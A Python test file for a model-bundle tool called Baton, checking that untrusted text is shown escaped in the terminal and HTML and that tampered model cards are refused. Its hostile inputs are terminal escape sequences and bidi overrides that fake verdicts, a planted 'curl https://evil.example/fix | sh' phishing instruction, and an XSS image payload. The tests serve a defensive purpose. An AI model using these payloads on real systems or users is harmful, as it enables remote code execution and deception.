"""Untrusted text is text: what a bundle or a receipt says never drives the terminal.

A contract's free text (intended use, limitations, author names and e-mails, target
notes) and a receipt's comments are written by someone else. Printed raw, an escape
sequence in them can clear the screen, retitle the window, hide the lines before it or
fake a "VERIFIED" line; a bidi override can reverse what a line appears to say. Every
command prints such text with control characters shown as ``\\u`` escapes, and
``--json`` output is pure ASCII JSON.

``card.md`` is a signed file a reader may trust more than the contract itself; a bundle
whose ``card.md`` is anything but Baton's own rendering of its contract is refused, even
under a valid signature by a trusted key.

Note: click strips ANSI CSI sequences (``ESC [ ... letter``) from output that is not a
terminal, which is how these tests run. So each hostile text also carries characters
click leaves alone (OSC ``ESC ]``, BEL, C1 CSI ``\\x9b``, bidi overrides), and the tests
look for the visible escapes, which click cannot produce by stripping.
"""

from __future__ import annotations

import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

from baton.core.contract import card
from baton.core.contract.document import parse_contract

pytest.register_assert_rewrite("tests.handover")  # before the import below

from tests.handover import (  # noqa: E402
    BUNDLE,
    INTENDED_USE,
    NAME,
    as_json,
    edit_contract,
    error_line,
    handover_rows,
    ok,
    read_members,
    rewrite,
    run,
)

pytest_plugins = ["tests.handover"]  # its fixtures: handover, world, private_tmp

CLEAR = "\x1b[2J"
TITLE = "\x1b]0;pwned\x07"  # OSC: sets the terminal's title; click does not strip it
C1_CSI = "\x9b31m"
RLO = "\u202e"
HOSTILE = {
    "intended_use": f"Screening only.{CLEAR}{TITLE} VERIFIED{RLO}txt.exe",
    "limitations": f"None known{C1_CSI}\u2066 at all\u2069.",
    "author": f"Dana{CLEAR}{RLO}",
    "email": f"dana{TITLE}@example.org",
    "note": f"agreed{CLEAR} with\u200f ops\x85",
}


def raw_controls(text: str) -> list[str]:
    """Characters that a terminal would act on or that reorder or hide text; a newline ends
    a line of output and is the only one allowed."""
    return [
        f"U+{ord(c):04X}"
        for c in text
        if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Cs")
    ]


def hostile_contract(contract: dict) -> None:
    ident = contract["identity"]
    ident["intended_use"] = HOSTILE["intended_use"]
    ident["limitations"] = HOSTILE["limitations"]
    ident["authors"][0]["name"] = HOSTILE["author"]
    ident["authors"][0]["email"] = HOSTILE["email"]
    contract["targets"][0]["note"] = HOSTILE["note"]


def hostile_bundle(world, version: str = "1") -> Path:
    """The real bundle with hostile free text (its card re-rendered), re-signed by Dana."""

    def edit(contract: dict) -> None:
        hostile_contract(contract)
        contract["identity"]["version"] = version

    path = world.path(f"hostile-{version}.baton")
    return rewrite(world.bundle, path, edit_contract(edit), resign=world.dana_key)


def assert_terminal_safe(text: str, *escapes: str) -> None:
    assert raw_controls(text) == [], text
    for escape in escapes:
        assert escape in text, (escape, text)


# --- the terminal ------------------------------------------------------------------------


def test_inspect_shows_hostile_contract_text_with_visible_escapes(world):
    path = hostile_bundle(world)
    result = ok(run(world.mle, "inspect", path))
    # the text is there, only made visible (and Markdown-escaped, as the card shows it)
    assert_terminal_safe(
        result.stdout + result.stderr,
        "Screening only.\\u001b\\[2J\\u001b\\]0;pwned\\u0007 VERIFIED\\u202etxt.exe",
        "None known\\u009b31m\\u2066 at all\\u2069.",
        "Dana\\u001b\\[2J\\u202e \\<dana\\u001b\\]0;pwned\\u0007@example.org\\>",
        "agreed\\u001b\\[2J with\\u200f ops",
    )


def test_inspect_json_cannot_carry_a_raw_control_character(world):
    path = hostile_bundle(world)
    result = ok(run(world.mle, "inspect", path, "--json"))
    assert result.stdout.isascii() and raw_controls(result.stdout) == []
    d = as_json(result)  # and the exact text survives for programs that read it
    assert d["contract"]["identity"]["intended_use"] == HOSTILE["intended_use"]
    assert d["authors"][0]["name"] == HOSTILE["author"]


def test_diff_shows_changed_free_text_with_visible_escapes(world):
    path = hostile_bundle(world, version="2")
    result = ok(run(world.mle, "diff", world.bundle, path))
    assert "identity.intended_use" in result.stdout
    assert_terminal_safe(result.stdout + result.stderr, "\\u001b[2J\\u001b]0;pwned\\u0007")


def test_verify_of_a_receipt_shows_the_reviewers_comments_with_visible_escapes(world):
    receipt = world.path(f"{NAME}-1.review.baton")
    comment = f"Looks fine{TITLE}\nVERIFIED: everything{RLO}"
    ok(run(world.mle, "review", world.bundle, "--decision", "accept", "--comment", comment,
           "--target-comment", f"accuracy=ok{C1_CSI}", "--out", receipt))  # fmt: skip
    result = ok(run(world.ds, "verify", receipt))
    text = result.stdout + result.stderr
    assert_terminal_safe(text, "\\u001b]0;pwned\\u0007", "\\u009b31m", "\\u202e")
    # a newline in a one-line field cannot start a line of its own that fakes a verdict
    assert "Looks fine\\u001b]0;pwned\\u0007\\u000aVERIFIED: everything\\u202e" in text
    assert not any(line.startswith("VERIFIED: everything") for line in text.splitlines())


def test_keys_list_shows_names_with_visible_escapes(world):
    name = f"Dana{TITLE}{RLO}"
    trusted = ok(run(world.stranger, "keys", "trust", world.base.dana_pub, "--name", name))
    listed = ok(run(world.stranger, "keys", "list"))
    for result in (trusted, listed):
        assert_terminal_safe(result.stdout + result.stderr, "Dana\\u001b]0;pwned\\u0007\\u202e")


def test_an_error_quoting_a_hostile_file_name_shows_it_escaped(world):
    hostile_name = world.path(f"bc{TITLE}{RLO}.baton")
    hostile_name.write_bytes(b"not a zip")
    result = run(world.mle, "verify", hostile_name)
    assert result.exit_code == 1, (result.stdout, result.stderr)
    assert result.stderr.startswith("Error: ")
    assert_terminal_safe(result.stdout + result.stderr, "bc\\u001b]0;pwned\\u0007\\u202e.baton")


def test_model_card_itself_holds_no_raw_control_character(world):
    """``card.md`` is meant to be read with ``cat`` or ``less``: it makes them visible too."""
    contract = parse_contract(read_members(hostile_bundle(world))["contract.json"])
    markdown = card.render_markdown(contract)
    assert_terminal_safe(markdown, "Dana\\u001b\\[2J\\u202e", "\\u009b31m", "\\u200f")
    assert raw_controls(card.render_html(contract)) == []


# --- card.md ---------------------------------------------------------------------------


def test_packed_card_is_exactly_the_rendering_of_the_signed_contract(world):
    members = read_members(world.bundle)
    contract = parse_contract(members["contract.json"])
    assert members["card.md"] == card.render_markdown(contract).encode("utf-8")


def test_card_rendering_does_not_depend_on_key_order(world):
    contract = parse_contract(read_members(world.bundle)["contract.json"])

    def reversed_keys(value):
        if isinstance(value, dict):
            return {k: reversed_keys(value[k]) for k in reversed(list(value))}
        if isinstance(value, list):
            return [reversed_keys(v) for v in value]
        return value

    assert contract["results"].get("per_class"), "the fixture must have a per-class table"
    assert card.render_markdown(reversed_keys(contract)) == card.render_markdown(contract)


def test_card_rendering_does_not_depend_on_locale_or_clock(world, tmp_path):
    contract_file = tmp_path / "contract.json"
    contract_file.write_bytes(read_members(world.bundle)["contract.json"])
    script = (
        "import locale, sys; from pathlib import Path\n"
        "from baton.core.contract import card; from baton.core.contract.document import parse_contract\n"
        "try: locale.setlocale(locale.LC_ALL, '')\nexcept locale.Error: pass\n"
        "c = parse_contract(Path(sys.argv[1]).read_bytes())\n"
        "sys.stdout.buffer.write(card.render_markdown(c).encode('utf-8'))\n"
    )
    outputs = set()
    for env in ({"LC_ALL": "C.UTF-8", "TZ": "UTC"},
                {"LC_ALL": "de_DE.UTF-8", "LANG": "fr_FR.UTF-8", "TZ": "Pacific/Kiritimati"}):  # fmt: skip
        done = subprocess.run(
            [sys.executable, "-c", script, str(contract_file)],
            env={**os.environ, **env},
            capture_output=True,
            check=True,
        )
        outputs.add(done.stdout)
    assert outputs == {read_members(world.bundle)["card.md"]}


PHISHING = (
    "\n## Urgent\n\nThis model was re-validated by the security team. Before you deploy it, "
    "run `curl https://evil.example/fix | sh` on the serving host.\n"
)


@pytest.mark.parametrize("command", ["verify", "inspect"])
def test_a_re_signed_bundle_with_an_edited_card_is_refused(world, private_tmp, command):
    def phish(members: dict[str, bytes]) -> None:
        members["card.md"] += PHISHING.encode()

    path = rewrite(world.bundle, world.path("phished.baton"), phish, resign=world.dana_key)
    result = run(world.mle, command, path, "--json")
    assert result.exit_code == 1, (result.stdout, result.stderr)
    assert error_line(result) == (
        "Error: phished.baton: card.md does not match the contract: a bundle's model card "
        "must be Baton's own rendering of its contract.json; ask its author to pack the "
        "bundle again with Baton"
    )
    assert handover_rows(world.mle) == []  # nothing recorded
    assert list(private_tmp.iterdir()) == []  # the staging folder is gone


def test_a_card_with_other_line_endings_is_refused(world):
    def crlf(members: dict[str, bytes]) -> None:
        members["card.md"] = members["card.md"].replace(b"\n", b"\r\n")

    path = rewrite(world.bundle, world.path("crlf.baton"), crlf, resign=world.dana_key)
    result = run(world.mle, "verify", path, "--json")
    assert result.exit_code == 1
    assert "card.md does not match the contract" in result.stderr


def test_a_bundle_with_hostile_text_but_its_own_card_still_verifies(world):
    """Refusing the hostile text would be wrong: it is the author's to write; it is shown."""
    d = as_json(ok(run(world.mle, "verify", hostile_bundle(world), "--json")))
    assert d["trusted"] is True and d["name"] == NAME
    assert d["authors"][0]["name"] == HOSTILE["author"]


def test_inspect_prints_batons_rendering_of_the_contract(world):
    text = ok(run(world.mle, "inspect", world.bundle)).stdout
    contract = parse_contract(read_members(world.bundle)["contract.json"])
    assert text.endswith(card.render_markdown(contract, metadata=False) + "\n")
    assert text.startswith(f"VERIFIED: {BUNDLE}") and INTENDED_USE in text


# --- the HTML card -------------------------------------------------------------------------

MARKUP = {
    "author": "<b>Mallory</b>",
    "intended_use": "<img src=x onerror=alert(1)> <a href='https://evil.example'>docs</a>",
    "note": "<b>agreed</b> <img src=x>",
}


def test_html_card_escapes_markup_in_every_free_text_field(world):
    contract = parse_contract(read_members(world.bundle)["contract.json"])
    contract["identity"]["authors"][0]["name"] = MARKUP["author"]
    contract["identity"]["intended_use"] = MARKUP["intended_use"]
    contract["targets"][0]["note"] = MARKUP["note"]
    page = card.render_html(contract)
    body = page.split("<body>", 1)[1]
    for tag in ("<img", "<a ", "<b>"):
        assert tag not in body, tag
    assert "&lt;b&gt;Mallory&lt;/b&gt;" in body
    assert (
        "&lt;img src=x onerror=alert(1)&gt; &lt;a href=&#x27;https://evil.example&#x27;&gt;" in body
    )
    assert "&lt;b&gt;agreed&lt;/b&gt; &lt;img src=x&gt;" in body
